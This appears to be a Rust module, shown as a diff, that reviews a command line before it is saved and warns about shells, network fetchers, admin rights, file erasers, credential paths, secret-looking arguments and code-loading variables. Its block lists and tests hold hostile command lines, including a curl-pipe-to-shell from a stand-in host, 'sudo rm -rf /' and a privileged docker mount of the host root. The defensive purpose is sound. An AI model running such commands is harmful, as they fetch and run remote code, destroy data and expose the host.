@@ -1,0 +1,406 @@
+//! What to look out for in a command before it is saved. A warning forbids nothing: any program can do anything,
+//! and the person decides (SEC-08).
+
+use mooring_words::{Sentence, say};
+
+use crate::journal::redact::looks_secret;
+use crate::untrusted::hidden_in_text;
+
+/// How many warnings are given at most.
+const MOST: usize = 20;
+
+/// What to look out for in a command with these arguments and variables (their names).
+pub fn review_command(command: &str, args: &[String], env: &[String]) -> Vec<Sentence> {
+    let mut warnings = Vec::new();
+    let program = base_name(command);
+    about_program(&program, args, &mut warnings);
+    about_words(&program, args, &mut warnings);
+    about_containers(&program, args, &mut warnings);
+    about_secrets(args, &mut warnings);
+    about_variables(env, &mut warnings);
+    let texts = std::iter::once(command).chain(args.iter().map(String::as_str));
+    for text in texts {
+        let hidden = hidden_in_text(text);
+        if !hidden.is_empty() {
+            let characters: Vec<String> = hidden.into_iter().map(|found| found.code_point).collect();
+            warnings.push(say!(
+                "there are characters in it that mislead: {characters}",
+                characters = characters.join(", ")
+            ));
+        }
+    }
+    let mut told = Vec::new();
+    for warning in warnings {
+        if !told.contains(&warning) && told.len() < MOST {
+            told.push(warning);
+        }
+    }
+    told
+}
+
+/// A program's name without its folder and, of a Windows program, its ending; in small letters.
+fn base_name(command: &str) -> String {
+    let name = command.trim().rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
+    for ending in [".exe", ".cmd", ".bat", ".com"] {
+        if let Some(stem) = name.strip_suffix(ending) {
+            return stem.to_owned();
+        }
+    }
+    name
+}
+
+const SHELLS: [&str; 13] = [
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "fish",
+    "csh",
+    "tcsh",
+    "cmd",
+    "powershell",
+    "pwsh",
+    "busybox",
+    "wsl",
+];
+const ROOTS: [&str; 6] = ["sudo", "doas", "pkexec", "su", "runas", "gsudo"];
+const FETCHERS: [&str; 8] = ["curl", "wget", "iwr", "invoke-webrequest", "irm", "certutil", "nc", "ncat"];
+const ERASERS: [&str; 7] = ["rm", "rmdir", "del", "shred", "dd", "mkfs", "format"];
+
+fn about_program(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
+    let first = args.iter().map(String::as_str).find(|argument| !argument.starts_with('-'));
+    if SHELLS.contains(&program) {
+        warnings.push(say!("{program} is a shell: it does whatever its arguments say", program));
+    }
+    let runs = |flag: &&String| match program {
+        "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish" | "csh" | "tcsh" | "busybox" => {
+            flag.starts_with('-') && !flag.starts_with("--") && flag.contains('c')
+        }
+        "cmd" => matches!(flag.to_ascii_lowercase().as_str(), "/c" | "/k"),
+        "powershell" | "pwsh" => {
+            let flag = flag.to_ascii_lowercase();
+            flag.starts_with("-c") || flag.starts_with("-e") || flag == "-file"
+        }
+        "node" | "bun" | "ruby" | "perl" => {
+            matches!(flag.as_str(), "-e" | "--eval" | "-p" | "--print" | "-E")
+        }
+        "deno" => flag.as_str() == "eval",
+        "npx" | "npm" | "pnpm" => matches!(flag.as_str(), "-c" | "--call"),
+        "php" | "lua" | "osascript" | "julia" => matches!(flag.as_str(), "-r" | "-e"),
+        _ if is_python(program) => flag.as_str() == "-c",
+        _ => false,
+    };
+    if let Some(flag) = args.iter().find(runs) {
+        warnings.push(say!("{flag} has {program} run the text behind it as a program", flag, program));
+    }
+    if let Some(package) = downloaded(program, args, first) {
+        warnings.push(say!(
+            "{program} downloads {package} and runs it: whoever publishes it decides what runs here",
+            program,
+            package
+        ));
+        if !names_version(package) {
+            warnings.push(say!("no version of {package} is named: it may be another one each time", package));
+        }
+    }
+}
+
+fn is_python(program: &str) -> bool {
+    program.strip_prefix("python").is_some_and(|rest| rest.chars().all(|it| it.is_ascii_digit() || it == '.'))
+        || matches!(program, "py" | "pypy" | "pypy3")
+}
+
+/// What is downloaded and run.
+fn downloaded<'a>(program: &str, args: &'a [String], first: Option<&'a str>) -> Option<&'a str> {
+    let behind = |word: &str| {
+        let at = args.iter().position(|argument| argument == word)?;
+        args.get(at + 1..)?.iter().map(String::as_str).find(|argument| !argument.starts_with('-'))
+    };
+    match program {
+        "npx" | "bunx" | "pnpx" => behind("-p").or_else(|| behind("--package")).or(first),
+        "uvx" => behind("--from").or(first),
+        "dnx" => first,
+        "npm" => behind("exec").or_else(|| behind("x")),
+        "pnpm" | "yarn" => behind("dlx"),
+        "bun" => behind("x"),
+        "pipx" => behind("run"),
+        "uv" => behind("tool").and_then(|_| behind("run")),
+        "go" => behind("run").filter(|package| package.contains('.') && package.contains('/')),
+        "docker" | "podman" | "nerdctl" => image(args),
+        _ => args.iter().map(String::as_str).find(|argument| {
+            matches!(program, "deno" | "node" | "bun")
+                && (argument.starts_with("https://") || argument.starts_with("http://"))
+        }),
+    }
+}
+
+/// The image that a container is made of. Options with a value are told from those without by what the value looks like.
+fn image(args: &[String]) -> Option<&str> {
+    const VALUED: [&str; 14] = [
+        "-v",
+        "--volume",
+        "-e",
+        "--env",
+        "--env-file",
+        "--name",
+        "--network",
+        "--net",
+        "--mount",
+        "-p",
+        "--publish",
+        "-w",
+        "--workdir",
+        "--entrypoint",
+    ];
+    let at = args.iter().position(|argument| argument == "run")?;
+    let mut rest = args.get(at + 1..)?.iter();
+    while let Some(argument) = rest.next() {
+        if VALUED.contains(&argument.as_str()) {
+            rest.next();
+        } else if !argument.starts_with('-') {
+            return Some(argument);
+        }
+    }
+    None
+}
+
+fn names_version(package: &str) -> bool {
+    let name = package.rsplit('/').next().unwrap_or_default();
+    if package.contains("==") || package.contains("@sha256:") {
+        return true;
+    }
+    let version = name.split_once('@').or_else(|| name.split_once(':')).map(|(_, version)| version);
+    version.is_some_and(|version| {
+        version.chars().any(|it| it.is_ascii_digit()) && !version.starts_with(['^', '~'])
+    })
+}
+
+/// The words of the command, also those inside a text that a shell runs.
+fn about_words(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
+    let separators = |it: char| it.is_whitespace() || "|;&()`$'\"<>".contains(it);
+    let inner = args.iter().flat_map(|argument| argument.split(separators)).filter(|word| !word.is_empty());
+    let words: Vec<&str> = std::iter::once(program).chain(inner).collect();
+    for word in &words {
+        let name = base_name(word);
+        if ROOTS.contains(&name.as_str()) {
+            warnings.push(say!("{program} gives it the rights of the administrator", program = name));
+        } else if FETCHERS.contains(&name.as_str()) {
+            warnings.push(say!("{program} fetches something from the network", program = name));
+        } else if ERASERS.contains(&name.as_str()) && (*word == program || SHELLS.contains(&program)) {
+            warnings.push(say!("{program} deletes or overwrites files", program = name));
+        } else if word.contains("..") && word.contains('/') && !word.contains("://") {
+            warnings.push(say!("it leads out of its folder: {path}", path = *word));
+        }
+        if let Some(place) = sensitive(word) {
+            warnings.push(say!("{path} is where secrets or settings of yours are", path = place));
+        }
+    }
+    if args
+        .iter()
+        .any(|argument| argument.contains("| sh") || argument.contains("|sh") || argument.contains("| bash"))
+    {
+        warnings.push(say!("what it fetches is run at once"));
+    }
+}
+
+fn sensitive(word: &str) -> Option<&str> {
+    const INSIDE: [&str; 10] = [
+        "/.ssh",
+        "/.aws",
+        "/.gnupg",
+        "/.kube",
+        "/.config",
+        "/.netrc",
+        "/.mozilla",
+        "/etc/passwd",
+        "/etc/shadow",
+        "docker.sock",
+    ];
+    let whole = ["/", "~", "~/", "$HOME", "/etc", "/root", "C:\\"];
+    let found = INSIDE.iter().any(|inside| word.contains(inside)) || whole.contains(&word);
+    found.then_some(word)
+}
+
+fn about_containers(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
+    if !matches!(program, "docker" | "podman" | "nerdctl") {
+        return;
+    }
+    for argument in args {
+        let opens = matches!(
+            argument.as_str(),
+            "--privileged" | "--network=host" | "--net=host" | "--pid=host" | "host"
+        ) || argument.starts_with("/:")
+            || argument.starts_with("--cap-add");
+        if opens {
+            warnings.push(say!("{argument} opens the container to this computer", argument));
+        }
+    }
+}
+
+/// Arguments of a process can be read by every other one (D7).
+fn about_secrets(args: &[String], warnings: &mut Vec<Sentence>) {
+    for (index, argument) in args.iter().enumerate() {
+        let named = |name: &str| looks_secret(name.trim_start_matches('-'));
+        let follows_name = index
+            .checked_sub(1)
+            .and_then(|before| args.get(before))
+            .is_some_and(|before| before.starts_with('-') && !before.contains('=') && named(before));
+        let holds = match argument.split_once('=') {
+            Some((name, value)) => !value.is_empty() && !value.starts_with(['$', '{']) && named(name),
+            None => follows_name && !argument.starts_with('-'),
+        };
+        let is_header = argument.to_ascii_lowercase().contains("authorization:")
+            || argument.to_ascii_lowercase().starts_with("bearer ");
+        if holds || is_header || is_token(argument) {
+            warnings.push(say!(
+                "argument {number} looks like a secret, and every program here can read arguments: enter it as a variable",
+                number = index + 1
+            ));
+        }
+    }
+}
+
+/// Whether a text is of the form that well-known issuers give their tokens.
+fn is_token(text: &str) -> bool {
+    const STARTS: [&str; 13] = [
+        "sk-",
+        "ghp_",
+        "gho_",
+        "ghs_",
+        "github_pat_",
+        "glpat-",
+        "xoxb-",
+        "xoxp-",
+        "AKIA",
+        "AIza",
+        "eyJ",
+        "hf_",
+        "npm_",
+    ];
+    let value = text.rsplit('=').next().unwrap_or_default();
+    value.len() >= 16
+        && STARTS.iter().any(|start| value.starts_with(start))
+        && value.chars().all(|it| it.is_ascii_alphanumeric() || "-_.".contains(it))
+}
+
+fn about_variables(env: &[String], warnings: &mut Vec<Sentence>) {
+    const LOADING: [&str; 14] = [
+        "LD_PRELOAD",
+        "LD_LIBRARY_PATH",
+        "LD_AUDIT",
+        "NODE_OPTIONS",
+        "NODE_PATH",
+        "PYTHONPATH",
+        "PYTHONSTARTUP",
+        "PYTHONHOME",
+        "RUBYOPT",
+        "PERL5OPT",
+        "PERL5LIB",
+        "BASH_ENV",
+        "JAVA_TOOL_OPTIONS",
+        "ENV",
+    ];
+    for name in env {
+        let upper = name.to_ascii_uppercase();
+        if LOADING.contains(&upper.as_str()) || upper.starts_with("DYLD_") {
+            warnings.push(say!("{name} has other code loaded into the program", name));
+        } else if upper == "PATH" {
+            warnings.push(say!("{name} changes where the program looks for others", name));
+        } else if matches!(
+            upper.as_str(),
+            "HTTP_PROXY" | "HTTPS_PROXY" | "ALL_PROXY" | "NODE_TLS_REJECT_UNAUTHORIZED" | "SSL_CERT_FILE"
+        ) {
+            warnings.push(say!("{name} changes whom the program talks to", name));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn warnings(line: &[&str], env: &[&str]) -> Vec<String> {
+        let args: Vec<String> = line[1..].iter().map(ToString::to_string).collect();
+        let env: Vec<String> = env.iter().map(ToString::to_string).collect();
+        review_command(line[0], &args, &env).into_iter().map(|warning| warning.as_str().to_owned()).collect()
+    }
+
+    // Requirements: SEC-05, SEC-08.
+    #[test]
+    fn thirty_shapes_of_commands_have_the_right_warnings() {
+        let table: &[(&[&str], &[&str], &[&str])] = &[
+            (&["sh", "-c", "echo hi"], &[], &["is a shell", "-c has sh run"]),
+            (&["/bin/bash", "-lc", "server"], &[], &["bash is a shell", "-lc has bash run"]),
+            (&["cmd.exe", "/c", "server.bat"], &[], &["cmd is a shell", "/c has cmd run"]),
+            (&["pwsh", "-EncodedCommand", "AAAA"], &[], &["pwsh is a shell", "-EncodedCommand has"]),
+            (&["node", "-e", "require('x')"], &[], &["-e has node run"]),
+            (&["node", "--eval", "1"], &[], &["--eval has node run"]),
+            (&["python3.12", "-c", "import os"], &[], &["-c has python3.12 run"]),
+            (&["perl", "-e", "1"], &[], &["-e has perl run"]),
+            (&["osascript", "-e", "tell"], &[], &["-e has osascript run"]),
+            (&["npx", "-c", "evil"], &[], &["-c has npx run", "downloads", "no version"]),
+            (
+                &["npx", "-y", "@scope/server"],
+                &[],
+                &["npx downloads @scope/server", "no version of @scope/server"],
+            ),
+            (&["npx", "-y", "@scope/server@1.2.3"], &[], &["npx downloads @scope/server@1.2.3"]),
+            (&["npx", "server@latest"], &[], &["downloads", "no version"]),
+            (&["uvx", "server"], &[], &["uvx downloads server", "no version"]),
+            (&["uvx", "--from", "server==1.0", "run-it"], &[], &["uvx downloads server==1.0"]),
+            (&["pipx", "run", "server"], &[], &["pipx downloads server", "no version"]),
+            (&["pnpm", "dlx", "server@2.0.0"], &[], &["pnpm downloads server@2.0.0"]),
+            (&["go", "run", "example.com/x/server@latest"], &[], &["go downloads", "no version"]),
+            (&["deno", "run", "-A", "https://example.com/x.ts"], &[], &["deno downloads", "no version"]),
+            (&["docker", "run", "-i", "--rm", "mcp/server:1.4"], &[], &["docker downloads mcp/server:1.4"]),
+            (
+                &["docker", "run", "--privileged", "-v", "/:/host", "x/y:1"],
+                &[],
+                &["docker downloads x/y:1", "--privileged opens", "/:/host opens"],
+            ),
+            (
+                &["docker", "run", "-v", "/var/run/docker.sock:/s", "x/y:1"],
+                &[],
+                &["downloads", "docker.sock"],
+            ),
+            (&["sudo", "server"], &[], &["sudo gives it the rights of the administrator"]),
+            (
+                &["sh", "-c", "curl https://x.example/i | sh"],
+                &[],
+                &["shell", "-c has", "curl fetches", "is run at once"],
+            ),
+            (
+                &["bash", "-c", "sudo rm -rf /"],
+                &[],
+                &["shell", "-c has", "sudo gives", "rm deletes", "/ is where"],
+            ),
+            (&["wget", "https://x.example"], &[], &["wget fetches"]),
+            (&["server", "--root", "/home/me/.ssh"], &[], &["/home/me/.ssh is where"]),
+            (&["server", "--dir", "a/../../etc"], &[], &["leads out of its folder"]),
+            (&["server", "--api-key", "abc123"], &[], &["argument 2 looks like a secret"]),
+            (&["server", "--token=abc123"], &[], &["argument 1 looks like a secret"]),
+            (&["server", "ghp_0123456789abcdef0123"], &[], &["argument 1 looks like a secret"]),
+            (&["server", "--header", "Authorization: Bearer x"], &[], &["argument 2 looks like a secret"]),
+            (&["server", "a\u{202e}b"], &[], &["that mislead: U+202E"]),
+            (&["server"], &["LD_PRELOAD"], &["LD_PRELOAD has other code loaded"]),
+            (
+                &["server"],
+                &["NODE_OPTIONS", "DYLD_INSERT_LIBRARIES"],
+                &["NODE_OPTIONS has", "DYLD_INSERT_LIBRARIES has"],
+            ),
+            (&["server"], &["PATH", "HTTPS_PROXY"], &["PATH changes where", "HTTPS_PROXY changes whom"]),
+            (&["node", "server.js", "--port", "80"], &["API_KEY"], &[]),
+            (&["/usr/bin/python3", "-m", "server"], &["HOME"], &[]),
+            (&["server", "--token-file", "=", "--tokens"], &[], &[]),
+        ];
+        assert!(table.len() >= 30);
+        for (line, env, expected) in table {
+            let told = warnings(line, env);
+            assert_eq!(told.len(), expected.len(), "{line:?}: {told:?}");
+            for expected in *expected {
+                assert!(told.iter().any(|told| told.contains(expected)), "{line:?}: {expected}: {told:?}");
+            }
+        }
+    }
+}
